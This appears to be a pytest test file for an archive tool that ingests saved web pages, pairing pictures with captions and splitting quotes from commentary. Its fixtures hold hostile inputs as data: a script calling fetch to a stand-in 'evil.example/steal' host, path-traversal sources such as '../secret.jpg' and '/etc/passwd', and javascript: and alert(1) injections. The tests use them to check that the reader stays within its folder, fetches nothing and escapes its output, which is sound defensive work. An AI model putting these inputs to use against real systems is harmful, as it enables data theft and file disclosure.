"""Saved web pages: pictures paired with their captions, quotes kept apart from commentary.

The page reader (`ingest/pages.py`) on a page saved "complete" with real pictures
(scanmaker), then the same page dropped in an inbox and ingested through the CLI.
"""

from __future__ import annotations

import json
from pathlib import Path

from archive_ingest.ingest.pages import read_saved_page, split_quotes
from archive_ingest.record import PhotoDate
from conftest import new_home
from scanmaker import make_scan

#: No OCR: the captions are what these tests are about, and OCR is the slow stage.
NO_OCR = "stages: [fixity, identify, exif, extract, provenance, flags, file]\n"

PAGE = """<!DOCTYPE html>
<!-- saved from url=(0047)https://koryogroup.example/blog/soviet-memorials -->
<html><head><title>Soviet memorials in the DPRK</title>
<meta property="article:published_time" content="2019-06-12T09:00:00+00:00">
<script>fetch('https://evil.example/steal')</script></head>
<body>
<figure><img src="post_files/one.jpg" alt="Image may contain: outdoor">
<figcaption>‘The monument to Soviet soldiers in Chongjin, August 1945.’ The monument
was later moved to the hill above the port.</figcaption></figure>
<img src="./post_files/two.jpg">
<p>«Могила советского воина в Вонсане, в мае 1978 года». Koryo Tours visited the
cemetery in the late 1970's as well.</p>
<img src="post_files/three.jpg" alt="Wreath laying, the late 1970's">
<img src="https://cdn.example/not-saved.jpg">
</body></html>
"""


def saved_page(inbox: Path) -> Path:
    for name in ("one", "two", "three"):
        make_scan(inbox / "post_files" / f"{name}.jpg", [name.upper()], font_px=40)
    page = inbox / "post.html"
    page.write_text(PAGE, encoding="utf-8")
    return page


def test_each_saved_picture_gets_its_caption_quote_commentary_and_date(tmp_path: Path) -> None:
    saved_page(tmp_path)
    page = read_saved_page(tmp_path, "post.html")
    assert page.problems == []
    assert page.title == "Soviet memorials in the DPRK"
    assert page.url == "https://koryogroup.example/blog/soviet-memorials"
    assert page.date == "2019-06-12T09:00:00+00:00"
    assert page.linked == ["https://cdn.example/not-saved.jpg"]  # reported, not fetched
    one, two, three = page.pictures
    assert (one.image, one.caption_from) == ("post_files/one.jpg", "figcaption")
    assert one.quote == "The monument to Soviet soldiers in Chongjin, August 1945."
    assert one.commentary == "The monument was later moved to the hill above the port"
    assert one.date == PhotoDate("1945-08", "month", "caption")
    assert (two.image, two.caption_from) == ("post_files/two.jpg", "paragraph")
    assert two.quote == "Могила советского воина в Вонсане, в мае 1978 года"
    assert two.commentary == "Koryo Tours visited the cemetery in the late 1970's as well"
    assert two.date == PhotoDate("1978-05", "month", "caption")
    assert (three.caption, three.caption_from) == ("Wreath laying, the late 1970's", "alt")
    assert three.quote is None  # the apostrophe opens no quote
    assert three.date == PhotoDate("197x", "decade", "caption")


def test_a_lazy_loaded_picture_is_found_behind_its_placeholder(tmp_path: Path) -> None:
    for name in ("lazy", "set"):
        make_scan(tmp_path / "p_files" / f"{name}.jpg", [name.upper()], font_px=40)
    placeholder = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
    (tmp_path / "p.html").write_text(
        f'<img src="{placeholder}" data-src="p_files/lazy.jpg" alt="Lazy">'
        f'<img srcset="p_files/set.jpg 800w, p_files/big.jpg 1600w" alt="From srcset">'
        f'<img src="{placeholder}" alt="Only a placeholder">',
        encoding="utf-8",
    )
    page = read_saved_page(tmp_path, "p.html")
    assert [(p.image, p.caption) for p in page.pictures] == [
        ("p_files/lazy.jpg", "Lazy"),
        ("p_files/set.jpg", "From srcset"),
    ]
    assert page.problems == ["p.html: an inline data: picture (42 characters) skipped"]


def test_a_thumbnail_stands_for_the_larger_picture_it_links_to(tmp_path: Path) -> None:
    make_scan(tmp_path / "g_files" / "small.jpg", ["S"], font_px=20)
    make_scan(tmp_path / "g_files" / "large.jpg", ["L"], font_px=60)
    make_scan(tmp_path / "g_files" / "alone.jpg", ["A"], font_px=40)
    (tmp_path / "g.html").write_text(
        '<a href="g_files/large.jpg"><img src="g_files/small.jpg" alt="Linked"></a>'
        '<a href="https://example.org/elsewhere.jpg"><img src="g_files/alone.jpg" alt="Link not saved"></a>'
        '<a href="../outside.jpg"><img src="g_files/missing.jpg" alt="Link outside"></a>',
        encoding="utf-8",
    )
    page = read_saved_page(tmp_path, "g.html")
    assert [(p.image, p.caption) for p in page.pictures] == [
        ("g_files/large.jpg", "Linked"),
        ("g_files/alone.jpg", "Link not saved"),
    ]
    assert page.missing == ["g_files/missing.jpg"]


def test_a_page_in_a_legacy_cyrillic_encoding_is_read_by_its_declared_charset(tmp_path: Path) -> None:
    make_scan(tmp_path / "ru_files" / "a.jpg", ["A"], font_px=40)
    html = '<meta charset="windows-1251"><img src="ru_files/a.jpg"><p>«Памятник советским воинам», май 1978 года.</p>'
    (tmp_path / "ru.html").write_bytes(html.encode("cp1251"))
    [picture] = read_saved_page(tmp_path, "ru.html").pictures
    assert picture.quote == "Памятник советским воинам"
    assert picture.date == PhotoDate("1978-05", "month", "caption")


def test_quotes_in_every_style_are_kept_apart() -> None:
    assert split_quotes('"Victory Day, 2021." Laid by the staff.') == ("Victory Day, 2021.", "Laid by the staff")
    assert split_quotes("“A” and „B“ then «C»") == ("A B C", "and then")
    assert split_quotes("No quotes here.") == (None, "No quotes here")


def test_a_hostile_page_reads_nothing_outside_its_folder_and_fetches_nothing(tmp_path: Path) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (tmp_path / "secret.jpg").write_bytes(b"outside the inbox")
    make_scan(inbox / "ok_files" / "a.jpg", ["A"], font_px=40)
    huge = "data:image/png;base64," + "A" * 2_000_000
    many = "".join(f'<img src="ok_files/missing{i}.jpg">' for i in range(3000))
    (inbox / "bad.html").write_text(
        f'<img src="../secret.jpg"><img src="/etc/passwd"><img src="{huge}">'
        f'<img src="ok_files/a.jpg" title="Kept"><img src="file:///etc/hosts">{many}',
        encoding="utf-8",
    )
    page = read_saved_page(inbox, "bad.html", max_pictures=10)
    assert [p.image for p in page.pictures] == ["ok_files/a.jpg"]
    assert page.pictures[0].caption == "Kept"
    assert page.linked == ["file:///etc/hosts"]
    assert all("\n" not in problem and len(problem) < 400 for problem in page.problems)
    joined = "\n".join(page.problems)
    assert "'../secret.jpg' lies outside the page's folder; not read" in joined
    assert "'/etc/passwd' lies outside the page's folder" in joined
    assert "inline data: picture (2,000,022 characters) skipped" in joined
    assert "3,005 pictures; only the first 10 are read" in joined


def test_an_oversized_page_is_refused_unread(tmp_path: Path) -> None:
    (tmp_path / "big.html").write_bytes(b"<p>" + b"x" * 2000)
    page = read_saved_page(tmp_path, "big.html", max_bytes=1000)
    assert page.pictures == [] and page.problems == ["big.html: over 1,000 bytes; page ignored"]


def test_a_saved_page_gives_each_picture_its_caption_and_the_page_as_source(tmp_path: Path) -> None:
    home = new_home(
        tmp_path / "home",
        NO_OCR + "pages:\n  quote_credit: The photo's owner\n  commentary_credit: The page's author\n",
    )
    page = saved_page(home.inbox)
    (home.inbox / "post_files" / "style.css").write_text("body { margin: 0 }", encoding="utf-8")
    make_scan(home.inbox / "post_files" / "avatar.png", ["A"], font_px=12)
    page.write_text(
        page.read_text(encoding="utf-8").replace("</body>", '<img src="post_files/avatar.png" width="24"></body>'),
        encoding="utf-8",
    )
    page_bytes = page.read_bytes()
    (home.inbox / "post_files" / "two.txt").write_text("A sidecar caption, Wonsan 1980", encoding="utf-8")

    result = home.invoke("run")
    assert result.exit_code == 0, result.output
    assert "ingested 3," in result.output
    linked = "1 picture the page only links to, not saved with it, not fetched: https://cdn.example/not-saved.jpg"
    assert f"post.html: {linked}" in result.output
    assert "post.html: 1 picture shown as icons (under 64 px) not taken as photos" in result.output
    assert "post_files/: 2 files saved with the page that it does not show as photos" in result.output

    records = {r["source"]["filename"]: r for r in home.catalog_records()}
    assert set(records) == {"post_files/one.jpg", "post_files/two.jpg", "post_files/three.jpg"}
    one, two, three = (records[f"post_files/{name}.jpg"] for name in ("one", "two", "three"))
    assert one["source"]["caption_from"] == "page"
    assert one["caption"].startswith("‘The monument to Soviet soldiers in Chongjin, August 1945.’")
    assert one["date"] == {"value": "1945-08", "precision": "month", "source": "caption"}
    assert one["place"]["name"] == "Chongjin"
    source = one["source"]["page"]
    assert source["title"] == "Soviet memorials in the DPRK"
    assert source["url"] == "https://koryogroup.example/blog/soviet-memorials"
    assert source["published"] == "2019-06-12T09:00:00+00:00"
    assert (source["quote"], source["quote_by"]) == (
        "The monument to Soviet soldiers in Chongjin, August 1945.",
        "The photo's owner",
    )
    assert (source["commentary"], source["commentary_by"]) == (
        "The monument was later moved to the hill above the port",
        "The page's author",
    )
    # The page is filed bit for bit, and the record points at the copy.
    assert (home.archive / source["path"]).read_bytes() == page_bytes
    assert one["source"]["caption_path"] == source["path"]

    # A sidecar wins; the page's caption stays on record beside it.
    assert (two["caption"], two["source"]["caption_from"]) == ("A sidecar caption, Wonsan 1980", "sidecar")
    assert two["source"]["page"]["caption"].startswith("«Могила советского воина в Вонсане")
    assert two["source"]["page"]["path"] == source["path"]
    events = " ".join(event["detail"] for event in two["events"])
    assert "post.html also gives a caption for this file; the sidecar post_files/two.txt is used" in events
    assert "post.html, a saved web page, shows this file (filed as captions/" in events

    assert three["date"] == {"value": "197x", "precision": "decade", "source": "caption"}
    assert three["source"]["page"]["caption_from"] == "alt"
    assert three["source"]["page"]["quote"] is None

    # The page and its photos left the inbox; what it did not show as photos stays.
    assert home.inbox_files() == ["post_files/avatar.png", "post_files/style.css"]
    assert home.invoke("verify").exit_code == 0

    again = home.invoke("run")
    assert again.exit_code == 0 and "ingested 0," in again.output
    assert "post_files/: 2 files of a saved page that is not in the inbox; not ingested" in again.output
    assert len(home.catalog_records()) == 3


def test_a_hostile_page_is_one_line_each_and_the_rest_of_the_drop_goes_on(tmp_path: Path) -> None:
    home = new_home(tmp_path / "home", NO_OCR + "pages:\n  max_bytes: 100000\n")
    (tmp_path / "home" / "secret.jpg").write_bytes(b"outside the inbox")
    make_scan(home.inbox / "scan.jpg", ["SCAN"], font_px=40)
    (home.inbox / "scan.txt").write_text("A plain drop beside the pages", encoding="utf-8")
    (home.inbox / "evil.html").write_text(
        '<script>alert(1)</script><img src="../secret.jpg"><img src="/etc/passwd">'
        '<img src="evil_files/gone.jpg"><img src="https://tracker.example/pixel.jpg">',
        encoding="utf-8",
    )
    (home.inbox / "huge.htm").write_bytes(b"<p>" + b"x" * 200_000)

    result = home.invoke("run")
    assert result.exit_code == 0, result.output
    assert "ingested 1," in result.output
    lines = result.output.splitlines()
    for expected in (
        "evil.html: picture '../secret.jpg' lies outside the page's folder; not read",
        "evil.html: picture '/etc/passwd' lies outside the page's folder; not read",
        "evil.html: 1 picture it shows not in the inbox (not saved with the page, or archived already): "
        "evil_files/gone.jpg",
        "evil.html: the page shows no picture in the inbox; left in the inbox",
        "huge.htm: over 100,000 bytes; page ignored",
    ):
        assert any(expected in line for line in lines), expected
    [record] = home.catalog_records()
    assert record["source"]["caption_from"] == "sidecar" and record["source"]["page"] is None
    assert home.inbox_files() == ["evil.html", "huge.htm"]  # left as dropped
    assert json.loads((home.archive / "catalog.json").read_text(encoding="utf-8"))  # a whole catalog


def test_the_page_goes_out_with_the_record_in_csv_dublin_core_and_the_site(tmp_path: Path) -> None:
    home = new_home(tmp_path / "home", NO_OCR)
    saved_page(home.inbox)
    make_scan(home.inbox / "hostile_files" / "x.jpg", ["X"], font_px=40)
    (home.inbox / "hostile.html").write_text(
        '<!-- saved from url=(0019)javascript:alert(1) --><title>Bad "page"</title><img src="hostile_files/x.jpg">',
        encoding="utf-8",
    )
    assert home.invoke("run").exit_code == 0
    rows = home.invoke("export", "--format", "csv").stdout
    assert rows.count("https://koryogroup.example/blog/soviet-memorials") == 3  # the web_page column
    dc = home.invoke("export", "--format", "dc").stdout
    assert dc.count("<dc:source>Soviet memorials in the DPRK, https://koryogroup.example/blog/soviet-memorials</") == 3

    assert home.invoke("site", str(tmp_path / "site"), "--config", str(home.config)).exit_code == 0
    records = {r["source"]["filename"]: r["id"] for r in home.catalog_records()}
    one = (tmp_path / "site" / "records" / f"{records['post_files/one.jpg']}.html").read_text(encoding="utf-8")
    assert (
        'Published on: <a href="https://koryogroup.example/blog/soviet-memorials" rel="nofollow noopener noreferrer">'
        "Soviet memorials in the DPRK</a>." in one
    )
    bad = (tmp_path / "site" / "records" / f"{records['hostile_files/x.jpg']}.html").read_text(encoding="utf-8")
    assert "Published on: Bad &#34;page&#34;." in bad and "javascript:" not in bad
